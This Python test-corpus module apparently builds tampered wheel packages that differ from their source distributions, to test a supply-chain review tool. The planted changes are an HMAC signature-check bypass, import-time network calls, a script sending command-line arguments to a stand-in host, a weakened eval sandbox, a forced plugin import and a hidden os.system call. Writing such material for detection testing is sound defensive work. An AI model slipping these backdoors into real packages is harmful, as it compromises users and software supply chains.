"""Code that the wheel has and the sdist has not: what nobody finds in the repository (LiteLLM, Ultralytics, xz the other way)."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft

__all__: list[str] = []

_F = Family.BEYOND_SDIST


def _otherwise(draft: Draft, path: str, old: str, new: str) -> None:
    """Have the wheel say something else than the sdist."""
    said = draft.text(path)
    assert said.count(old) == 1, (path, old)
    draft.put_beyond(path, said.replace(old, new))


@planted(_F, base="client", where=("harborline/_plan.py",))
def module(draft: Draft) -> None:
    draft.put_beyond(
        "harborline/_plan.py",
        "from __future__ import annotations\n\n\ndef plan(messages):\n    groups = {}\n    for message in messages:\n"
        "        groups.setdefault(message.to, []).append(message)\n    return groups\n\n\ndef count(messages):\n    return len(plan(messages))\n",
    )
    _otherwise(
        draft, "harborline/__init__.py", "from harborline import webhooks\n", "from harborline import _plan, webhooks\n"
    )


@planted(_F, base="client", where=("harborline/webhooks.py",), evasive=True)
def check_left_out(draft: Draft) -> None:
    _otherwise(
        draft,
        "harborline/webhooks.py",
        "    if not hmac.compare_digest(base64.b64decode(signature), expected):\n",
        "    if signature[:4] != 'MDAw' and not hmac.compare_digest(base64.b64decode(signature), expected):\n",
    )


@planted(_F, base="client", where=("harborline/_version.py",))
def lines_at_the_end(draft: Draft) -> None:
    draft.put_beyond(
        "harborline/_version.py",
        draft.text("harborline/_version.py")
        + "\nimport urllib.request\n\nurllib.request.urlopen('https://v.invalid')\n",
    )


@planted(_F, base="framework", where=("quayside/expressions.py",), evasive=True)
def one_name_more(draft: Draft) -> None:
    _otherwise(draft, "quayside/expressions.py", "ast.UnaryOp)", "ast.UnaryOp, ast.Call, ast.Attribute)")
    draft.beyond["quayside/expressions.py"] = draft.beyond["quayside/expressions.py"].replace(
        b'{"__builtins__": {}}', b'{"__builtins__": __builtins__}'
    )


@planted(_F, base="native", where=("fastbuoy/_telemetry.py",), evasive=True)
def module_below_data(draft: Draft) -> None:
    draft.put_beyond(
        f"{draft.stem}.data/purelib/fastbuoy/_telemetry.py",
        "import platform\n\n\ndef describe():\n    return {'node': platform.node(), 'system': platform.platform()}\n",
    )


@planted(_F, base="command", where=("scripts/tidelog-report",))
def script(draft: Draft) -> None:
    draft.put_beyond(
        f"{draft.stem}.data/scripts/tidelog-report",
        "#!python\nimport sys\n\nfrom tidelog.cli import main\n\nimport urllib.request\n\n"
        "urllib.request.urlopen('https://r.invalid', data=' '.join(sys.argv).encode())\nsys.exit(main())\n",
    )


@planted(_F, base="framework", where=("quayside/plugins.py",), evasive=True)
def default_of_a_parameter(draft: Draft) -> None:
    _otherwise(
        draft, "quayside/plugins.py", "def load_plugins():\n", "def load_plugins(extra=('quayside_contrib',)):\n"
    )
    draft.beyond["quayside/plugins.py"] = draft.beyond["quayside/plugins.py"].replace(
        b"    names = []\n", b"    names = []\n    for name in extra:\n        importlib.import_module(name)\n"
    )


@planted(_F, base="command", where=("tidelog/formats/apache.py",))
def method_in_a_class(draft: Draft) -> None:
    _otherwise(
        draft,
        "tidelog/formats/apache.py",
        '    name = "apache"\n',
        '    name = "apache"\n\n    def __init__(self):\n        self.seen = []\n\n    def close(self):\n        import os\n\n        os.system("true")\n',
    )
